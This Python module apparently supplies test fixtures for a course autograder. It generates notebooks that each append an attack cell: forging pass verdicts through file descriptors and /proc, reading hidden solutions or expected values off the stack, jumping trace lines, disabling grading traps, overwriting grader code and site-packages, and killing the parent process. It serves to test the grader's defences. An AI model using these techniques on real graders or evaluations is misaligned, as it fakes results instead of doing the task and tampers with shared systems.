"""Notebooks written by a student who wants marks without writing an answer: one per attack on
the grade (tests/grading/test_wall.py). Each is the unit's untouched exercise plus the attack's
cells; none writes an answer of its own.

Every attack here reached full or partial marks, or changed another student's grade, on the
grader before the sandbox (main at 06d6689, where each was tried by hand).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat

#: the functions (and the names of value answers) each unit's exercise asks for, by attack
ANSWERS = {
    "00_start_here": [
        "count_parameters",
        "parameter_bytes",
        "adam_training_bytes",
        "predict_state",
    ],
    "08_collectives": [
        "my_ring_all_reduce",
        "my_ring_all_gather",
        "predict_rs_ag_bytes",
        "predict_wait_s",
        "fixed_average_gradients",
        "bytes_per_step",
    ],
    "10_zero_fsdp": ["zero1_step", "predict_model_state", "stage2_hook", "smallest_stage"],
    "14_planning_a_run": ["sized_run", "problems", "predict_mfu"],
}


def check_lines(solution: Path) -> dict[int, str]:
    """Task -> the ✓ line its check prints: what the exercise shows a student as its target."""
    nb = json.loads(solution.read_text())
    lines = {}
    for cell in nb["cells"]:
        tags = cell.get("metadata", {}).get("tags", [])
        task = next((int(t[5:]) for t in tags if re.fullmatch(r"task-\d+", t)), None)
        if task is None or cell["cell_type"] != "code":
            continue
        text = "".join("".join(o.get("text", "")) for o in cell.get("outputs", []))
        found = [line for line in text.splitlines() if line.startswith("✓")]
        if found:
            lines[task] = found[0]
    return lines


# --------------------------------------------------------------------------- the attacks
def forge_carried(unit: str, lines: dict[int, str]) -> list[str]:
    """A class body (carried into the check's process with the definitions) that finds the task
    on the stack and writes a passing verdict to every pipe it can, then exits."""
    return [
        f"""
class _Forge:
    import json as _json, os as _os, sys as _sys
    _lines = {json.dumps({str(k): v for k, v in lines.items()})}
    _frame, _task = _sys._getframe(), None
    while _frame is not None:
        _job = _frame.f_locals.get("job")
        if _task is None and hasattr(_job, "task"):
            _task = str(_job.task)
        _frame = _frame.f_back
    if _task in _lines:
        _verdict = _json.dumps({{"passed": True, "message": _lines[_task],
                                 "lines": [_lines[_task]], "tampered": []}}).encode()
        for _fd in range(3, 1024):
            try:
                _os.write(_fd, _verdict)
            except OSError:
                pass
        _os._exit(0)
"""
    ]


def forge_kernel(unit: str, lines: dict[int, str]) -> list[str]:
    """A kernel cell that opens the grader's helper's verdict pipe through /proc (its command
    line names the descriptor) and answers every task before the grader asks."""
    verdicts = [
        {"passed": True, "message": line, "lines": [line], "tampered": []}
        for _, line in sorted(lines.items())
    ]
    return [
        f"""
import json, os
_reply = (json.dumps({verdicts!r}) + "\\n").encode()
for _pid in os.listdir("/proc"):
    if not _pid.isdigit():
        continue
    try:
        _argv = open(f"/proc/{{_pid}}/cmdline", "rb").read().split(b"\\0")
    except OSError:
        continue
    if any(b"zygote_main" in a for a in _argv) and len(_argv) > 3:
        try:
            _fd = os.open(f"/proc/{{_pid}}/fd/{{int(_argv[3])}}", os.O_WRONLY)
            for _ in range(4):
                os.write(_fd, _reply)
        except (OSError, ValueError):
            pass
"""
    ]


def read_solutions(unit: str, lines: dict[int, str]) -> list[str]:
    """A class body that reads the solution notebook at grade time and runs its answers."""
    return [
        f"""
class _Borrow:
    import json as _json, pathlib as _pathlib, course_lib as _course
    _path = _pathlib.Path(_course.__file__).resolve().parent.parent / "solutions" / "{unit}.ipynb"
    for _cell in _json.loads(_path.read_text())["cells"]:
        if "BEGIN SOLUTION" in "".join(_cell["source"]):
            exec("".join(_cell["source"]), globals())
"""
    ]


def read_frame(unit: str, lines: dict[int, str]) -> list[str]:
    """Each answer returns the check's own expected value, read from the caller's frames."""
    body = """
import sys as _sys
def _peek(*args, **kwargs):
    frame = _sys._getframe(1)
    while frame is not None:
        for name in ("expected", "want", "reference", "ref", "exact", "truth"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return None
"""
    defs = "".join(
        f"\ndef {name}(*args, **kwargs):\n    return _peek()\n" for name in ANSWERS[unit]
    )
    return [body + defs]


def trace_jump(unit: str, lines: dict[int, str]) -> list[str]:
    """Each answer installs a trace function that jumps the calling check to its ✓ line."""
    body = """
import dis as _dis, sys as _sys
def _jump(*args, **kwargs):
    frame = _sys._getframe(1)
    while frame is not None:
        calls = [i.positions.lineno for i in _dis.get_instructions(frame.f_code)
                 if i.argval == "passed" and i.positions and i.positions.lineno]
        if calls:
            target = max(calls)
            def tracer(fr, event, arg, target=target, done=[]):
                if event == "line" and not done:
                    done.append(1)
                    try:
                        fr.f_lineno = target
                    except (ValueError, AttributeError):
                        pass
                return None if done else tracer
            frame.f_trace, frame.f_trace_lines = tracer, True
        frame = frame.f_back
    _sys.settrace(lambda *a: None)
    return 0
"""
    defs = "".join(
        f"\ndef {name}(*args, **kwargs):\n    return _jump()\n" for name in ANSWERS[unit]
    )
    return [body + defs]


_TRAPS_OFF = """
def _off(call):
    from course_lib.grading import traps
    saved, active = dict(traps._TRAPS), list(traps._ACTIVE)
    for trap in saved.values():
        trap.func.__code__ = trap.original
    traps._TRAPS.clear(); traps._ACTIVE.clear()
    try:
        return call()
    finally:
        for trap in saved.values():
            trap.func.__code__ = trap.trampoline
        traps._TRAPS.update(saved); traps._ACTIVE.extend(active)
"""

#: the course's own answer, called with the traps switched off, per unit (what this attack hid)
_WITH_THE_COURSE = {
    "00_start_here": """
def count_parameters(model):
    from course_lib.models import count_params
    return _off(lambda: count_params(model))

def adam_training_bytes(n_params):
    from course_lib.measure import estimate
    return _off(lambda: estimate.model_state_bytes(n_params, precision="fp32",
                                                   optimizer="adam")["total"])
""",
    "08_collectives": """
def predict_rs_ag_bytes(size_bytes, world_size):
    from course_lib.measure import estimate
    return _off(lambda: estimate.reduce_scatter_bytes_sent(size_bytes, world_size)
                + estimate.allgather_bytes_sent(size_bytes, world_size))
""",
    "10_zero_fsdp": """
def smallest_stage(n_params, world_size, gpu_GB):
    from course_lib.measure.estimate import zero
    for stage in range(4):
        need = _off(lambda: zero.zero_bytes_per_rank(n_params, stage=stage, world_size=world_size))
        if need <= gpu_GB * 1e9:
            return stage
    return None
""",
}


def traps_off(unit: str, lines: dict[int, str]) -> list[str]:
    """Answers that call the course's own code with the traps' bookkeeping emptied around the
    call and restored afterwards."""
    return [_TRAPS_OFF + _WITH_THE_COURSE[unit]]


def course_writes(unit: str, lines: dict[int, str]) -> list[str]:
    """A kernel cell that changes what later notebooks are graded with: the grader's own code,
    a ``sitecustomize.py`` in the course's folder, the solutions' check cells, site-packages,
    and a ``course_lib`` package beside the notebook."""
    return [
        """
import json, os, pathlib, site, sysconfig
import course_lib
_root = pathlib.Path(course_lib.__file__).resolve().parent.parent
_attempts = []
def _try(what, action):
    try:
        action()
        _attempts.append(what)
    except OSError as exc:
        pass
_try("grading", lambda: open(_root / "course_lib" / "grading" / "verdicts.py", "a").write(
    "\\ndef fail(task, message):\\n    passed(task, 'forged')\\n"))
_try("sitecustomize", lambda: (_root / "sitecustomize.py").write_text(
    "import os\\nos.environ['COURSE_FORGED'] = '1'\\n"))
_try("site-packages", lambda: (pathlib.Path(sysconfig.get_paths()["purelib"])
                               / "sitecustomize.py").write_text("FORGED = 1\\n"))
def _forge_solutions():
    for path in (_root / "solutions").glob("*.ipynb"):
        nb = json.loads(path.read_text())
        for cell in nb["cells"]:
            out = "".join("".join(o.get("text", "")) for o in cell.get("outputs", []))
            if out.startswith("✓"):
                cell["source"] = f"print({out.strip()!r})"
        path.write_text(json.dumps(nb))
_try("solutions", _forge_solutions)
def _shadow():
    pkg = pathlib.Path.cwd() / "course_lib"
    (pkg / "grading").mkdir(parents=True, exist_ok=True)
    (pkg / "__init__.py").write_text("FORGED = 1\\n")
_try("shadow", _shadow)
print("written:", _attempts)
"""
    ]


def kill_parent(unit: str, lines: dict[int, str]) -> list[str]:
    """A kernel cell that kills the process that started the kernel, and a class body that kills
    the parent of the check's process."""
    return [
        "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n",
        "class _Kill:\n    import os as _os, signal as _signal\n"
        "    _os.kill(_os.getppid(), _signal.SIGKILL)\n",
    ]


ATTACKS = {
    "forge_carried": forge_carried,
    "forge_kernel": forge_kernel,
    "read_solutions": read_solutions,
    "read_frame": read_frame,
    "trace_jump": trace_jump,
    "traps_off": traps_off,
    "course_writes": course_writes,
    "kill_parent": kill_parent,
}


def write_attack(exercise: Path, solution: Path, attack: str, dest: Path) -> Path:
    """The exercise with the attack's cells appended (its answers untouched), at ``dest``."""
    nb = nbformat.read(exercise, as_version=4)
    unit = exercise.stem
    for index, source in enumerate(ATTACKS[attack](unit, check_lines(solution))):
        cell = nbformat.v4.new_code_cell(source.strip() + "\n")
        cell.id = f"attack-{index}"
        # before the last cell (the exercise's "grade this notebook" cell)
        nb.cells.insert(len(nb.cells) - 1, cell)
    dest.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, dest)
    return dest
